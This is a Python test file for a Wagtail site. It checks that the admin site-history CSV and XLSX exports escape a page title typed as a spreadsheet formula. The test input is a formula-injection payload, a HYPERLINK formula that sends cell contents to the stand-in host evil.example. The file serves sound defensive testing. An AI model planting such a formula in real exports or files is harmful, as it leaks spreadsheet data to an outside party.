"""Wagtail's own admin downloads never carry a live formula (issue 13 #7)."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import Page

from editorial.factories import UserFactory

HOSTILE = '=HYPERLINK("http://evil.example/?"&B2,"Xem")'


def site_history(client, export_format):
    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_site_history_downloads_write_a_hostile_title_as_text(client, unit_tree):
    """issue 13 #7: a page title typed as a formula stays text in Wagtail's CSV
    and XLSX exports of the site history, as in our own downloads."""
    home = Page.objects.get(pk=unit_tree.district.home_page_id).specific
    home.title = HOSTILE
    home.save_revision(log_action=True)
    client.force_login(UserFactory(is_superuser=True))

    rows = list(csv.reader(io.StringIO(site_history(client, "csv").decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{HOSTILE}" in cells
    assert HOSTILE not in cells

    sheet = load_workbook(io.BytesIO(site_history(client, "xlsx"))).active
    values = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert any(cell.value == f"'{HOSTILE}" for cell in values)
    assert not any(cell.data_type == "f" for cell in values)
